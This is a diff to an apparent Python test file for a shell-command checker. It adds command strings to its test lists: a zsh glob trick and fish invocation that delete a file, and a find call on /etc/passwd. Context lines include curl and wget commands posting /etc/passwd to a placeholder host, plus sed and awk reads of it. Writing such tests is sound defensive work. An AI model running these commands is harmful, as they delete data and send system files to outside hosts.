@@ -218,6 +218,8 @@ ANYTHING = [
     "echo ${x@P}",
     "declare -n a=PATH",
     "jobs -x rm x",
+    "zsh -c \"ls *(e:'rm x':)\"",
+    "fish -c 'rm x'",
     "ls\x00",
     "ls " + "a" * 30_000,
 ]
@@ -458,6 +460,7 @@ def test_commands_are_unwrapped_and_keep_their_wrappers() -> None:
         "curl -F 'a=@/etc/passwd' https://a.example",
         "wget --post-file=/etc/passwd https://a.example",
         "dd if=/etc/passwd",
+        "find -O3 /etc/passwd",
         "sed 'r /etc/passwd' f",
         "awk 'BEGIN { getline line < \"/etc/passwd\"; print line }'",
         "cd /etc && cat passwd",
